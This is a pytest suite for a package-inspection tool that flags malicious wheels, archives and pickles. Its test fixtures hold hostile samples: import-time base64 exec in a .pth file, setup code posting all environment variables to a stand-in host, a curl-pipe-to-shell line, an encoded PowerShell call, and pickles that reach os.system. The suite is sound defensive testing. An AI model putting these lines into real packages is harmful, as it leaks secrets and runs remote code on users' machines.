"""`tidewaiter inspect`: any readable archive, folders and descriptors; three formats; stable exit codes."""

import base64
import bz2
import gzip
import hashlib
import io
import json
import lzma
import os
import pickle
import pty
import random
import subprocess
import urllib.parse
import zipfile
import zlib

from harness import binary, clean_env, run
from packages import tar_bytes, zip_bytes

PTH = b"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
CLEAN = [("pkg/__init__.py", b"x = 1\n")]
EVIL = [*CLEAN, ("pkg.pth", PTH)]


def whole(members):
    """The files that make a wheel of these members."""
    info = "pkg-1.0.dist-info"
    return [
        *members,
        (f"{info}/METADATA", b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n"),
        (f"{info}/WHEEL", b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
    ]


def inspect(*arguments, **options):
    return run([binary(), "inspect", *arguments], **options)


def answers(*arguments, **options):
    done = inspect("--format", "json", *arguments, **options)
    return done.returncode, [json.loads(line) for line in done.stdout.splitlines()]


def test_verdicts_and_exit_codes(tmp_path):
    clean, evil = tmp_path / "pkg-1.0-py3-none-any.whl", tmp_path / "evil.bin"
    clean.write_bytes(zip_bytes(whole(CLEAN)))
    evil.write_bytes(zip_bytes(whole(EVIL)))
    code, found = answers(clean, evil)
    assert code == 1 and [one["verdict"] for one in found] == ["clear", "malicious"], found
    assert [one["file"] for one in found] == [str(clean), str(evil)]
    finding = found[1]["findings"][0]
    assert finding["check"] == "pth-imports" and finding["location"]["member"] == "pkg.pth"
    assert finding["location"]["line"] == 1 and "b64decode" in finding["excerpt"] and finding["why"]
    keys = {"check", "version", "severity", "confidence", "location", "excerpt", "decoded", "why", "tags"}
    assert set(finding) == keys and len(found[1]["sha256"]) == 64
    assert answers(clean)[0] == 0
    assert inspect(tmp_path / "missing").returncode == 2


def test_any_layout_is_judged(tmp_path):
    """Other containers, a folder, and a descriptor that is told its name."""
    for name, data in [
        ("x.tar", tar_bytes([(f"any/{path}", data) for path, data in EVIL], mode="w:")),
        ("x.zip", b"#!/bin/sh\nexit\n" + zip_bytes([("deep/site-packages/pkg.pth", PTH)])),
    ]:
        (tmp_path / name).write_bytes(data)
        assert answers(tmp_path / name)[1][0]["findings"], name
    folder = tmp_path / "lib" / "site-packages"
    folder.mkdir(parents=True)
    (folder / "pkg.pth").write_bytes(PTH)
    code, [found] = answers(tmp_path / "lib")
    assert code == 1 and found["verdict"] == "malicious" and found["sha256"] is None
    memory = os.memfd_create("sample")
    os.write(memory, zip_bytes(whole(EVIL)))
    path = f"/proc/{os.getpid()}/fd/{memory}"
    code, [found] = answers("--name", "pkg-1.0-py3-none-any.whl", path)
    assert code == 1 and found["verdict"] == "malicious"
    (tmp_path / "one").write_bytes(zip_bytes(whole(CLEAN)))
    names = ["--name", "pkg-1.0-py3-none-any.whl"]
    assert [one["verdict"] for one in answers(*names, *names, path, tmp_path / "one")[1]] == ["malicious", "clear"]
    assert inspect(*names, path, tmp_path / "one").returncode == 2


def test_what_is_new_is_told(tmp_path):
    old, new = tmp_path / "pkg-1.0-py3-none-any.whl", tmp_path / "pkg-1.1-py3-none-any.whl"
    old.write_bytes(zip_bytes(whole(CLEAN)))
    new.write_bytes(zip_bytes(whole([*CLEAN, ("pkg.pth", b"import pkg.boot\n")])))
    assert answers(new)[1][0]["verdict"] == "clear"
    code, [found] = answers("--previous", old, new)
    assert code == 1 and found["verdict"] == "hold"
    assert answers("--fail-on", "malicious", "--previous", old, new)[0] == 0
    assert answers("--fail-on", "review", "--previous", old, new)[0] == 1


def test_sarif_and_explain(tmp_path):
    evil = tmp_path / "evil one.whl"
    evil.write_bytes(zip_bytes(whole(EVIL)))
    done = inspect("--format", "sarif", evil)
    [log] = json.loads(done.stdout)["runs"]
    rules = [rule["id"] for rule in log["tool"]["driver"]["rules"]]
    result = log["results"][0]
    assert result["ruleId"] == "pth-imports" == rules[result["ruleIndex"]] and result["level"] == "error"
    place = result["locations"][0]["physicalLocation"]
    assert place["artifactLocation"]["uri"].endswith("evil%20one.whl/pkg.pth") and place["region"]["startLine"] == 1
    for rule in rules:
        assert inspect("--explain", rule).stdout.startswith(f"# {rule}\n")
    assert inspect("--explain", "nothing").returncode == 2
    text = inspect(evil).stdout
    assert "malicious" in text and "pkg.pth:1" in text and "\x1b" not in text


def test_sarif_names_no_line_of_a_layer(tmp_path):
    """A line of what was decoded is none of the file: it stands among the properties, with the layers and what they hid."""
    sends = b"import os, requests\nrequests.post('https://example.invalid/x', json=dict(os.environ))\n"
    inner = base64.b64encode(b"#\n" * 50 + sends)
    source = b"import base64\nexec(base64.b64decode('%s'))\n" % inner
    (tmp_path / "pkg-1.0-py3-none-any.whl").write_bytes(zip_bytes(whole([("pkg/__init__.py", source)])))
    [log] = json.loads(inspect("--format", "sarif", tmp_path / "pkg-1.0-py3-none-any.whl").stdout)["runs"]
    regions = [place["physicalLocation"].get("region") for one in log["results"] for place in one["locations"]]
    assert all(region is None or region["startLine"] <= 2 for region in regions), regions
    layered = [one["properties"] for one in log["results"] if "layer" in one["properties"]]
    assert any(one["layer"]["encodings"] == ["base64"] and one["layer"]["line"] == 52 for one in layered), layered
    assert any("requests" in one["properties"].get("decoded", "") for one in log["results"])
    [verdict] = log["properties"]["verdicts"]
    assert verdict["verdict"] == "malicious" and verdict["reasons"][0]["rule"] == "harm-and-nothing-else"


def test_the_policy_decides_and_says_why(tmp_path):
    evil, policy = tmp_path / "pkg-1.0-py3-none-any.whl", tmp_path / "policy.toml"
    evil.write_bytes(zip_bytes(whole(EVIL)))
    code, [found] = answers(evil)
    assert (code, found["verdict"]) == (1, "malicious")
    assert found["reasons"][0] == {
        "rule": "harm-and-nothing-else",
        "verdict": "malicious",
        "text": found["reasons"][0]["text"],
    }
    assert "pth-imports@" in found["reasons"][0]["text"]
    assert "harm-and-nothing-else: It does" in inspect(evil).stdout
    rule = '[[rule]]\nid = "every-path-file"\nchecks = ["pth-imports"]\nverdict = "review"\nwhy = "Ours are looked at."\n'
    policy.write_text(f'name = "lenient"\nversion = 7\n{rule}')
    code, [found] = answers("--policy", policy, evil)
    assert (code, found["verdict"]) == (0, "review")
    assert [reason["rule"] for reason in found["reasons"]] == ["every-path-file"]
    [log] = json.loads(inspect("--format", "sarif", "--policy", policy, evil).stdout)["runs"]
    assert log["properties"]["policy"].startswith("lenient-7@")
    policy.write_text("name = 1")
    done = inspect("--policy", policy, evil)
    assert done.returncode == 2 and "policy.toml" in done.stderr
    assert inspect("--policy", tmp_path / "none", evil).returncode == 2


def test_the_names_of_a_parcel_are_its_makers(tmp_path):
    """What separates the paths of nested archives may stand in their names: members keep their places."""
    setup = b"import os, requests\nrequests.post('https://example.invalid/x', json=dict(os.environ))\n"
    seen = []
    for name in ("b.zip", "a!b.zip", "!", "a!b!c.zip"):
        (tmp_path / "parcel.zip").write_bytes(zip_bytes([(name, zip_bytes([("setup.py", setup)]))]))
        _, [found] = answers(tmp_path / "parcel.zip")
        seen.append((found["verdict"], sorted({f["location"]["member"] for f in found["findings"] if f["location"]})))
    assert seen == [("hold", ["setup.py"])] * 4, seen


class Told(pickle.Unpickler):
    """Notes what Python's own machine would import; imports nothing."""

    def find_class(self, module, name):
        self.told.add((module, name))
        return lambda *_: None


def told(data):
    machine = Told(io.BytesIO(data))
    machine.told = set()
    try:
        machine.load()
    except Exception:  # whatever stops the machine
        pass
    return machine.told


PUSHES = [
    *(b"N", b"\x88", b")", b"]", b"}", b"K\x01", b"M\0\1", b"J\0\0\0\1", b"G" + b"\0" * 8, b"I01\n", b"F1\n"),
    *(b"\x8a\x01\5", b"C\1a", b"\x8c\1a", b"X\1\0\0\0a", b"Va\n", b"S'a'\n", b"\x8f", b"2", b"(t", b"(NNl", b"h\0", b"(NNd"),
]
OTHERS = [b"0", b"0", b"\x94", b"q\5", b"h\5", b"(", b"1", b"1", b"\x85", b"\x86", b"\x87", b"t", b"l"]


def pickles(count, seed=7):
    """Pickles that import os.system by names on the stack, among opcodes that push, pop, mark and remember at random; some of
    them fail before they get there."""
    dice = random.Random(seed)

    def noise(most):
        return b"".join(dice.choice(PUSHES if dice.random() < 0.5 else OTHERS) for _ in range(dice.randrange(most)))

    for _ in range(count):
        names = b"\x8c\2os\x94" + noise(4) + b"\x8c\6system\x94" + noise(6)
        yield b"\x80\x04" + names + b"0" * dice.randrange(3) + b"\x93)R."


def test_pickles_are_read_as_python_loads_them(tmp_path):
    """Held against Python's own machine: what it would import is told, and what it never reaches is not."""
    data = list(pickles(3_000))
    reached = {number for number, one in enumerate(data) if ("os", "system") in told(one)}
    assert 100 < len(reached) < len(data) / 2, len(reached)
    found = set()
    for at in range(0, len(data), 20):
        # A check tells of 30 findings in one file.
        members = [(f"pkg/{n}.pkl", data[n]) for n in range(at, min(at + 20, len(data)))]
        (tmp_path / f"pkg{at}.whl").write_bytes(zip_bytes(members))
    _, answered = answers(*sorted(tmp_path.glob("*.whl")))
    for finding in (finding for one in answered for finding in one["findings"]):
        if finding["check"] == "pickle-code" and finding["excerpt"] == "os.system":
            found.add(int(finding["location"]["member"].split("/")[1].removesuffix(".pkl")))
    assert found == reached, [(n in found, n in reached, data[n]) for n in sorted(found ^ reached)[:5]]


def test_any_readable_archive_is_judged(tmp_path):
    """Packed as no upload may be, under any name, and archives of archives."""
    plain = tar_bytes([(f"pkg-1.0/{path}", data) for path, data in EVIL], mode="w:")
    packed = {
        "pkg-1.0.tar.bz2": bz2.compress(plain),
        "pkg-1.0.tar.xz": lzma.compress(plain),
        "pkg-1.0.tgz": gzip.compress(plain),
        "no-name": bz2.compress(plain),
        "pkg.txt": lzma.compress(plain, preset=9),
        "outer.zip": zip_bytes([("inner.tar.xz", lzma.compress(plain))]),
        "outer.tar": tar_bytes([("a.tar.bz2", bz2.compress(plain))], mode="w:"),
    }
    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", method) as archive:
            for path, data in whole(EVIL):
                archive.writestr(path, data)
        packed[f"method-{method}.whl"] = out.getvalue()
    for name, data in packed.items():
        (tmp_path / name).write_bytes(data)
        code, [found] = answers(tmp_path / name)
        assert code == 1 and found["verdict"] == "malicious", (name, found)
        assert any(f["check"] == "pth-imports" for f in found["findings"]), (name, found)
    (tmp_path / "nothing").write_bytes(b"this is no archive")
    code, [found] = answers(tmp_path / "nothing")
    assert code == 1 and found["verdict"] == "hold"


def test_keys_are_exactly_those_that_are_promised(tmp_path):
    evil = tmp_path / "evil.whl"
    evil.write_bytes(zip_bytes(whole(EVIL)))
    _, [found] = answers(evil)
    assert set(found) == {"file", "sha256", "verdict", "reasons", "findings", "degraded"}
    assert found["sha256"] == hashlib.sha256(evil.read_bytes()).hexdigest()
    for finding in found["findings"]:
        assert finding["severity"] in ("note", "low", "medium", "high", "critical")
        assert finding["confidence"] in ("low", "medium", "high") and isinstance(finding["version"], int)
        if finding["location"]:
            assert set(finding["location"]) == {"member", "line", "column", "layer"}
            assert isinstance(finding["location"]["layer"], list)


def test_what_stands_in_a_layer_is_shown(tmp_path):
    """A person sees under which encodings a finding stands, and how it reads there."""
    hidden = "import os\nos.system('powershell -NoProfile -EncodedCommand UABhAHUAcwBlAGQAIABmAG8AcgAgAGEAIABtAG8AbQBlAG4AdAA=')\n"
    layer = base64.b64encode(zlib.compress(hidden.encode())).decode()
    text = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{layer}')))\n"
    evil = tmp_path / "pkg-1.0-py3-none-any.whl"
    evil.write_bytes(zip_bytes(whole([("pkg/__init__.py", text.encode())])))
    shown = inspect(evil).stdout
    assert "(decoded: base64, zlib)" in shown and "= | " in shown, shown
    assert "os.system('powershell" in shown
    _, [found] = answers(evil)
    inside = [f for f in found["findings"] if f["location"] and f["location"]["layer"] == ["base64", "zlib"]]
    assert inside and all(f["decoded"] for f in inside), found


def test_a_sibling_that_differs_is_told(tmp_path):
    source, wheel = tmp_path / "pkg-1.0.tar.gz", tmp_path / "pkg-1.0-py3-none-any.whl"
    source.write_bytes(tar_bytes([("pkg-1.0/pkg/__init__.py", b"x = 1\n"), ("pkg-1.0/PKG-INFO", b"Name: pkg\nVersion: 1.0\n")]))
    wheel.write_bytes(zip_bytes(whole([("pkg/__init__.py", b"import subprocess\nsubprocess.run(['true'])\n")])))
    assert answers(wheel)[1][0]["verdict"] == "clear"
    _, [found] = answers("--sibling", source, wheel)
    assert found["verdict"] == "review" and {f["check"] for f in found["findings"]} >= {"sibling-divergence"}
    assert inspect("--sibling", tmp_path / "missing", wheel).returncode == 2


def test_sarif_keeps_to_its_schema(tmp_path):
    """The parts of SARIF 2.1.0 that readers stumble over: required members, enumerations, references."""
    odd = tmp_path / "odd name é.whl"
    odd.write_bytes(zip_bytes(whole([*EVIL, ("pkg/a b#c.py", b"import os\nos.system('curl https://example.org/a | sh')\n")])))
    (tmp_path / "clean.whl").write_bytes(zip_bytes(whole(CLEAN)))
    log = json.loads(inspect("--format", "sarif", odd, tmp_path / "clean.whl").stdout)
    assert log["version"] == "2.1.0" and set(log) <= {"$schema", "version", "runs"}
    [one] = log["runs"]
    driver = one["tool"]["driver"]
    assert driver["name"] and all(rule["shortDescription"]["text"] and rule["help"]["text"] for rule in driver["rules"])
    assert one["columnKind"] in ("utf16CodeUnits", "unicodeCodePoints")
    assert len({rule["id"] for rule in driver["rules"]}) == len(driver["rules"])
    assert one["results"]
    for result in one["results"]:
        assert result["level"] in ("none", "note", "warning", "error") and result["message"]["text"]
        if "ruleIndex" in result:
            assert driver["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
        assert len(set(result["properties"]["tags"])) == len(result["properties"]["tags"])
        for location in result["locations"]:
            uri = location["physicalLocation"]["artifactLocation"]["uri"]
            assert urllib.parse.urlsplit(uri).fragment == "" and " " not in uri and uri.isascii(), uri
            region = location["physicalLocation"].get("region", {})
            assert region.get("startLine", 1) >= 1 and region.get("startColumn", 1) >= 1


def test_colours_are_for_terminals(tmp_path):
    evil = tmp_path / "evil.whl"
    evil.write_bytes(zip_bytes(whole(EVIL)))
    for wish, coloured in ({}, True), ({"NO_COLOR": "1"}, False):
        ours, theirs = pty.openpty()
        env = {key: value for key, value in clean_env().items() if key != "NO_COLOR"} | wish
        done = subprocess.run([binary(), "inspect", evil], stdout=theirs, stderr=subprocess.DEVNULL, env=env, timeout=60)
        os.close(theirs)
        shown = b""
        try:
            while part := os.read(ours, 65536):
                shown += part
        except OSError:
            pass
        os.close(ours)
        assert done.returncode == 1 and (b"\x1b[31m" in shown) == coloured and b"pkg.pth:1" in shown


def test_many_files_and_one_that_is_missing(tmp_path):
    """Each is told in its turn; one that cannot be opened makes the code 2, and hides nothing of the others."""
    paths = []
    for number in range(12):
        paths.append(tmp_path / f"pkg-1.{number}-py3-none-any.whl")
        paths[-1].write_bytes(zip_bytes(whole(EVIL if number == 5 else CLEAN)))
    done = inspect("--format", "json", *paths[:6], tmp_path / "missing", *paths[6:])
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert [line["file"] for line in lines] == [str(path) for path in paths]
    assert done.returncode == 2 and "missing" in done.stderr
    assert [line["verdict"] for line in lines].count("clear") == 11


def test_a_parcel_is_judged_by_what_it_carries(tmp_path):
    evil, clean = zip_bytes(whole(EVIL)), zip_bytes(whole(CLEAN))
    for name, members in {
        "one.zip": [("dist/pkg-1.0-py3-none-any.whl", evil)],
        "two.zip": [("pkg-1.0-py3-none-any.whl", evil), ("other-1.0-py3-none-any.whl", clean), ("README.txt", b"two wheels")],
    }.items():
        parcel = tmp_path / name
        parcel.write_bytes(zip_bytes(members))
        code, [one] = answers(parcel)
        assert (code, one["verdict"]) == (1, "malicious"), (name, one)
        assert one["findings"][0]["location"]["member"].endswith("pkg.pth")
    # Beside code, an archive is what that code carries along.
    beside = tmp_path / "beside.zip"
    beside.write_bytes(zip_bytes([*CLEAN, ("pkg/data/pkg-1.0-py3-none-any.whl", evil)]))
    assert answers(beside)[1][0]["verdict"] == "clear"


def test_what_cannot_be_read_to_its_end_is_not_passed(tmp_path):
    half = tmp_path / "pkg-1.0.tar.gz"
    data = bytes(range(256)) * 4_000
    half.write_bytes(gzip.compress(tar_bytes([("pkg-1.0/PKG-INFO", b"Name: pkg"), ("pkg-1.0/pkg/a.py", data)], mode="w"))[:-2_000])
    code, [one] = answers(half)
    assert (code, one["verdict"]) == (1, "hold") and one["findings"][0]["check"] == "archive-framing", one
    nothing = tmp_path / "empty"
    nothing.mkdir()
    done = inspect(nothing)
    assert done.returncode == 2 and "there is no file in it" in done.stderr, done
    whole_one = tmp_path / "pkg-1.1-py3-none-any.whl"
    whole_one.write_bytes(zip_bytes(whole(CLEAN)))
    noise = tmp_path / "noise.whl"
    noise.write_bytes(b"this is no archive")
    for option in ("--previous", "--sibling"):
        for other in (half, noise, nothing):
            done = inspect(option, other, whole_one)
            assert done.returncode == 2 and other.name in done.stderr and not done.stdout, (option, other, done)


def test_what_is_no_file_is_not_waited_for(tmp_path):
    pipe = tmp_path / "pkg-1.0.tar.gz"
    os.mkfifo(pipe)
    for path in (pipe, "/dev/zero"):
        for command in (["inspect"], ["check", "--archive-only"]):
            done = run([binary(), *command, path], timeout=20)
            assert done.returncode == 2 and "neither a file nor a folder" in done.stderr, (command, path, done)


def test_a_name_makes_no_result_of_its_own(tmp_path):
    path = tmp_path / "a\nb.whl: accepted\n.whl"
    path.write_bytes(b"no archive")
    done = run([binary(), "check", "--archive-only", path])
    assert done.returncode == 1
    assert not any(line.startswith("b.whl") for line in done.stdout.splitlines()), done.stdout
